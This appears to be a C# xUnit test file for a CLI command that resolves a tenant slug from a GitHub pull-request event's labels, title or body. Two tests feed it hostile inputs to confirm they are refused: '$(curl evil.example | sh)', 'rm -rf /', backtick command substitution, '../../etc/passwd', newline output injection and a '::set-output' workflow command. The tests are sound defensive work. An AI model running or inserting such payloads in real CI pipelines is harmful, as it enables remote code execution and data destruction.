using System.Text.Json;
using System.Text.Json.Nodes;
using Migrator.Tests.Support;

namespace Migrator.Tests.Commands;

/// <summary>Which tenant a pull request asks for: one committed one, or none.</summary>
public sealed class ResolveTenantTests : IDisposable
{
    readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("resolve-tenant-");

    public ResolveTenantTests()
    {
        foreach (var slug in (string[])["acme-corp", "globex"])
            File.WriteAllText(Path.Combine(folder.FullName, $"Pulumi.{slug}.yaml"), "config: {}\n");
    }

    public void Dispose() => folder.Delete(recursive: true);

    [Theory]
    [InlineData("promote-tenant:acme-corp", "Grow", null)]
    [InlineData("promote-tenant", "[TENANT: acme-corp] Grow", null)]
    [InlineData("rehearse-tenant:acme-corp", "Grow", null)]
    [InlineData("rehearse-tenant", "[TENANT: acme-corp] Grow", null)]
    [InlineData("promote-tenant", "Grow", "Why:\r\n\r\nTenant: acme-corp\r\nThanks")]
    [InlineData("promote-tenant:acme-corp", "[TENANT: acme-corp] Grow", "Tenant: acme-corp")]
    public async Task A_label_a_title_or_a_line_of_the_text_names_the_tenant(string label, string title, string? body)
    {
        var (exitCode, output, error) = await ResolveAsync(PullRequest(title, body, "bug", label));

        Assert.Equal((0, "slug=acme-corp\n", ""), (exitCode, output, error));
    }

    [Fact]
    public async Task The_default_is_taken_when_the_pull_request_names_nobody()
    {
        var (exitCode, output, _) = await ResolveAsync(
            PullRequest("Grow", null, "promote-tenant"),
            "--default",
            "globex"
        );

        Assert.Equal((0, "slug=globex\n"), (exitCode, output));
    }

    [Fact]
    public async Task A_title_counts_only_under_the_label()
    {
        var (exitCode, output, error) = await ResolveAsync(PullRequest("[TENANT: acme-corp] Grow", null, "bug"));

        Assert.Equal((2, ""), (exitCode, output));
        Assert.Contains("The pull request names no tenant. Add the label promote-tenant:acme-corp", error);
    }

    [Fact]
    public async Task With_json_one_document_tells_the_tenant_and_where_it_was_named()
    {
        var (exitCode, output, _) = await ResolveAsync(PullRequest("Grow", null, "promote-tenant:acme-corp"), "--json");

        Assert.Equal(0, exitCode);
        var document = JsonDocument.Parse(output).RootElement;
        Assert.Equal(
            ("acme-corp", "label"),
            (document.GetProperty("tenant_slug").GetString(), document.GetProperty("source").GetString())
        );
    }

    [Theory]
    [InlineData("promote-tenant:acme-corp", "[TENANT: globex] Grow", null, "acme-corp (label), globex (title)")]
    [InlineData("promote-tenant:acme-corp", "Grow", "Tenant: globex", "acme-corp (label), globex (text)")]
    [InlineData(
        "promote-tenant",
        "[TENANT: acme-corp] and [TENANT: globex]",
        null,
        "acme-corp (title), globex (title)"
    )]
    public async Task Two_different_answers_are_a_refusal_that_names_both(
        string label,
        string title,
        string? body,
        string both
    )
    {
        var (exitCode, output, error) = await ResolveAsync(PullRequest(title, body, label));

        Assert.Equal((2, ""), (exitCode, output));
        Assert.Contains($"The pull request names different tenants: {both}. Keep one of them.", error);
    }

    [Theory]
    [InlineData("promote-tenant:globex")]
    [InlineData("rehearse-tenant:globex")]
    public async Task Two_labels_of_two_tenants_are_a_refusal(string other)
    {
        var (exitCode, _, error) = await ResolveAsync(PullRequest("Grow", null, "promote-tenant:acme-corp", other));

        Assert.Equal(2, exitCode);
        Assert.Contains("acme-corp (label), globex (label)", error);
    }

    [Theory]
    [InlineData("[TENANT: acme-corp; rm -rf /] x")]
    [InlineData("[TENANT: $(curl evil.example | sh)] x")]
    [InlineData("[TENANT: `id`] x")]
    [InlineData("[TENANT: ../../etc/passwd] x")]
    [InlineData("[TENANT: acme-corp\nslug=globex] x")]
    [InlineData("[TENANT: acme-corp%0Aslug=globex] x")]
    [InlineData("[TENANT: Acme-Corp] x")]
    [InlineData("[TENANT: acme--corp] x")]
    [InlineData("[TENANT: ] x")]
    [InlineData("[TENANT: ::set-output name=slug::globex] x")]
    [InlineData("[TENANT: \u202Eproc-emca] x")]
    [InlineData("[TENANT: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa] x")]
    public async Task A_hostile_title_is_a_sentence_of_one_line_and_never_an_output(string title)
    {
        var (exitCode, output, error) = await ResolveAsync(PullRequest(title, null, "promote-tenant"));

        Assert.Equal((2, ""), (exitCode, output));
        Assert.StartsWith("✗ In the title: '", error);
        Assert.Contains("is not a tenant slug: lower-case letters, digits and single hyphens inside", error);
        Assert.Equal(1, error.Count(c => c == '\n'));
    }

    [Theory]
    [InlineData("promote-tenant:$(id)")]
    [InlineData("promote-tenant:")]
    [InlineData("rehearse-tenant:../globex")]
    public async Task A_hostile_label_is_refused_even_if_the_title_is_in_order(string label)
    {
        var (exitCode, output, error) = await ResolveAsync(PullRequest("[TENANT: acme-corp] Grow", null, label));

        Assert.Equal((2, ""), (exitCode, output));
        Assert.StartsWith("✗ In the label: '", error);
    }

    [Fact]
    public async Task A_tenant_without_a_committed_stack_is_refused()
    {
        var (exitCode, _, error) = await ResolveAsync(PullRequest("Grow", null, "promote-tenant:initech"));

        Assert.Equal(2, exitCode);
        Assert.Contains(
            "Tenant 'initech' has no committed stack: Pulumi.initech.yaml is missing. "
                + "Commit the file first, or correct the slug.",
            error
        );
    }

    [Theory]
    [InlineData("""{"action":"labeled","pull_request":{"title":1,"labels":[]}}""", 2)]
    [InlineData("""{"action":"labeled","pull_request":{}}""", 2)]
    [InlineData("""{"action":"labeled","pull_request":"acme-corp"}""", 2)]
    [InlineData("""["promote-tenant:acme-corp"]""", 2)]
    [InlineData("not json", 2)]
    public async Task What_is_no_event_of_a_pull_request_is_a_sentence(string text, int exitCode)
    {
        var file = Path.Combine(folder.FullName, "event.json");
        await File.WriteAllTextAsync(file, text);

        var result = await MigratorProgram.RunAsync(["resolve-tenant", "--event", file, "--registry", folder.FullName]);

        Assert.Equal((exitCode, ""), (result.ExitCode, result.Output));
        Assert.StartsWith("✗ ", result.Error);
        Assert.DoesNotContain("   at ", result.Error);
    }

    [Fact]
    public async Task An_event_that_is_not_there_is_a_sentence()
    {
        var (exitCode, _, error) = await MigratorProgram.RunAsync([
            "resolve-tenant",
            "--event",
            Path.Combine(folder.FullName, "none.json"),
        ]);

        Assert.Equal(2, exitCode);
        Assert.Contains("none.json is not a pull request event", error);
    }

    async Task<(int ExitCode, string Output, string Error)> ResolveAsync(JsonObject payload, params string[] options)
    {
        var file = Path.Combine(folder.FullName, "event.json");
        await File.WriteAllTextAsync(file, payload.ToJsonString());
        return await MigratorProgram.RunAsync([
            "resolve-tenant",
            "--event",
            file,
            "--registry",
            folder.FullName,
            .. options,
        ]);
    }

    // The shape that GitHub sends for 'pull_request: labeled', less what nobody reads.
    static JsonObject PullRequest(string title, string? body, params string[] labels) =>
        new()
        {
            ["action"] = "labeled",
            ["number"] = 42,
            ["label"] = Label(labels[^1]),
            ["pull_request"] = new JsonObject
            {
                ["number"] = 42,
                ["state"] = "open",
                ["title"] = title,
                ["body"] = body,
                ["user"] = new JsonObject { ["login"] = "octocat", ["type"] = "User" },
                ["labels"] = new JsonArray([.. labels.Select(Label)]),
                ["head"] = new JsonObject
                {
                    ["ref"] = "promote/acme",
                    ["sha"] = "6dcb09b5b57875f334f61aebed695e2e4193db5e",
                },
                ["base"] = new JsonObject { ["ref"] = "main", ["sha"] = "c2d2a0f1c0d9b4b3e5c5f1f6d2a0f1c0d9b4b3e5" },
            },
            ["repository"] = new JsonObject { ["full_name"] = "factory/saas", ["default_branch"] = "main" },
            ["sender"] = new JsonObject { ["login"] = "octocat" },
        };

    static JsonObject Label(string name) =>
        new()
        {
            ["id"] = 208045946,
            ["name"] = name,
            ["color"] = "d73a4a",
            ["default"] = false,
        };
}
